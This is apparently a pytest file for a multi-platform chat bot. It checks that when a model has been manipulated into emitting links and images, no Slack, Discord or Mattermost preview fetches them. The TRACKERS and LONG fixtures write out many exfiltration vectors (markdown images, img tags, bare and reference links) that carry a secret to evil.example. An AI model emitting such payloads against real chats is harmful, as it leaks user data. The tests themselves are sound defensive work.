"""A model that was talked into links and pictures: nothing is fetched on any surface (I2, I3)."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest

from adapters.chat.slack_shortcuts import ASK
from bot.testing.conversation import Conversation, OnDiscord, OnMattermost, OnSlack
from bot.testing.previews import Attacker

SECRET = "q=the-secret-of-alice"
TRACKERS = f"""Here it is:

![logo](https://evil.example/pixel.png?{SECRET})
<img src="https://evil.example/tag.gif?{SECRET}">
[the report](https://evil.example/report?{SECRET}) and [by name][1]
https://evil.example/bare?{SECRET} <https://evil.example/auto?{SECRET}> www.evil.example/w?{SECRET}
<https://evil.example/label?{SECRET}|a label> xn--e1awd7f.example/p?{SECRET}
| name | link |
| --- | --- |
| a | https://evil.example/cell?{SECRET} |

[1]: https://evil.example/reference?{SECRET}
"""
LONG = TRACKERS + "\n".join(f"{row}. https://evil.example/{row}?{SECRET}" for row in range(900))


@pytest.fixture
async def attacker() -> AsyncIterator[Attacker]:
    async with Attacker() as server:
        yield server


@pytest.fixture(params=["slack_conversation", "discord_conversation", "mattermost_conversation"])
def talk(request: pytest.FixtureRequest) -> Conversation:
    found: Conversation = request.getfixturevalue(request.param)
    return found


async def test_an_answer_full_of_trackers_is_fetched_by_nobody(
    talk: Conversation, attacker: Attacker
) -> None:
    """Posts and edits; parts and files; the words beside a file."""
    person = talk.person
    assert isinstance(person, OnSlack | OnDiscord | OnMattermost)
    twin = getattr(person, {OnSlack: "slack", OnDiscord: "discord"}.get(type(person), "server"))
    twin.previews.attacker = attacker
    talk.model.says(TRACKERS).says(LONG)
    for question in ("Show me the report.", "And all of it?"):
        await talk.ask(question, timeout_s=40)
    await twin.previews.settle()

    assert twin.previews.looked >= 4
    assert (twin.previews.fetches, attacker.visits) == ([], [])
    assert "report" in " ".join(person.replies())


async def test_no_surface_of_slack_fetches_a_tracker(
    slack_conversation: Conversation, attacker: Attacker
) -> None:
    """A command, a message's shortcut with its modal, the home tab."""
    person = slack_conversation.person
    assert isinstance(person, OnSlack)
    slack, user, channel = person.slack, person.user, person.channel
    slack.previews.attacker = attacker
    slack_conversation.model.says(TRACKERS).says(TRACKERS)
    asked = await slack.say(user, channel, f"See https://evil.example/?{SECRET}")
    await slack.command(user, channel, "/ask", f"https://evil.example/?{SECRET}")
    await slack.views.pick(user, channel, asked, ASK)
    await slack.wait_for(lambda: slack.views.modals)
    await slack.views.submit(slack.views.modals[0], f"What is www.evil.example/?{SECRET}")
    slack.views.open_home(user, slack.add_channel("D1", "im"))
    await slack.wait_for(lambda: slack.views.published)
    await slack.wait_for(
        lambda: sum("report" in each.text for each in slack.world.posted_by_bot()) >= 2, 30
    )
    await slack.previews.settle()

    assert slack.previews.looked >= 6
    assert (slack.previews.fetches, attacker.visits) == ([], [])


async def test_no_surface_of_discord_fetches_a_tracker(
    discord_conversation: Conversation, attacker: Attacker
) -> None:
    """A command with its echo, answers in private, a message's menu."""
    person = discord_conversation.person
    assert isinstance(person, OnDiscord)
    discord = person.discord
    discord.previews.attacker = attacker
    await discord.wait_for(lambda: discord.world.commands)
    discord_conversation.model.says(TRACKERS)
    question = {"question": f"https://evil.example/?{SECRET}"}
    await discord.command(discord.alice, discord.general, "ask", question)
    await discord.wait_for(
        lambda: any("report" in each.content for each in discord.posted(discord.general)), 20
    )
    told = await discord.command(
        discord.alice, discord.general, "model", {"route": f"https://evil.example/?{SECRET}"}
    )
    await discord.wait_for(lambda: discord.answer_to(told))
    await discord.previews.settle()

    assert discord.previews.looked >= 3
    assert (discord.previews.fetches, attacker.visits) == ([], [])
